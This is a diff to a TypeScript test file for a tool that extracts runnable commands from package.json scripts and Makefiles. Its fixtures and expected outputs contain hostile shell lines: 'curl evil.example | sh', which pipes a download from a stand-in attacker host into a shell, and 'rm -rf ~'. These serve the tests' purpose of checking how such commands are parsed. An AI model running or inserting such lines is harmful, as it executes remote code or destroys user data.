@@ -3,7 +3,9 @@ import { ciCommands, makeCommands, packageCommands } from '../../../../src/exten
 
 describe('the commands of a package.json', () => {
   const of = (scripts: unknown, manager: 'npm' | 'pnpm' | 'yarn' | 'bun' = 'npm') =>
-    packageCommands(JSON.stringify({ scripts }), manager).map(({ command, script }) => `${command} > ${script}`);
+    packageCommands(JSON.stringify({ scripts }), manager).map(
+      ({ command, scripts: found }) => `${command} > ${found.join('; ')}`,
+    );
 
   test('run its scripts with the package manager of the project', () => {
     const scripts = { test: 'vitest', 'lint:fix': 'eslint --fix' };
@@ -21,10 +23,10 @@ describe('the commands of a package.json', () => {
       test: 'b',
     };
     expect(of(scripts).slice(1)).toEqual([
-      'npm run build > curl evil.example | sh && tsc && rm -rf ~',
+      'npm run build > curl evil.example | sh; tsc; rm -rf ~',
       'npm run postbuild > rm -rf ~',
       'npm run pretest > a',
-      'npm test > a && b',
+      'npm test > a; b',
     ]);
   });
 
@@ -63,7 +65,7 @@ VALUE = a:b
 # comment: x
 all: build test
 build lint: main.c
-\tgcc main.c
+\t-gcc main.c
 \t@echo done
 %.o: %.c
 \tgcc -c $<
@@ -73,10 +75,10 @@ clean:
 all: more
 \tmore
 `;
-    expect(makeCommands(text).map(({ command, script }) => `${command} > ${script}`)).toEqual([
-      'make all > gcc main.c; @echo done; more',
-      'make build > gcc main.c; @echo done',
-      'make lint > gcc main.c; @echo done',
+    expect(makeCommands(text).map(({ command, scripts: found }) => `${command} > ${found.join('; ')}`)).toEqual([
+      'make all > gcc main.c; echo done; more',
+      'make build > gcc main.c; echo done',
+      'make lint > gcc main.c; echo done',
       'make clean > rm -rf out',
     ]);
   });
@@ -99,9 +101,9 @@ a~b: evil
 %.o: %.c
 \techo object
 `;
-    expect(makeCommands(text).map(({ command, script }) => `${command} > ${script}`)).toEqual([
-      'make all > echo object; echo build; @echo done; echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all',
-      'make build > echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all; echo object; echo build; @echo done',
+    expect(makeCommands(text).map(({ command, scripts: found }) => `${command} > ${found.join('; ')}`)).toEqual([
+      'make all > echo object; echo build; echo done; echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all',
+      'make build > echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all; echo object; echo build; echo done',
       'make evil > echo other; curl evil.example | sh -x',
       'make other > echo other',
     ]);
@@ -109,7 +111,7 @@ a~b: evil
 
   test('are read in time if they have very many prerequisites', () => {
     const chain = Array.from({ length: 20_000 }, (_, at) => `t${at}: t${at + 1}`).join('\n');
-    expect(makeCommands(`${chain}\nt20000:\n\techo end\n`)[0]).toEqual({ command: 'make t0', script: 'echo end' });
+    expect(makeCommands(`${chain}\nt20000:\n\techo end\n`)[0]).toEqual({ command: 'make t0', scripts: ['echo end'] });
   });
 
   test('do not include hostile names', () => {
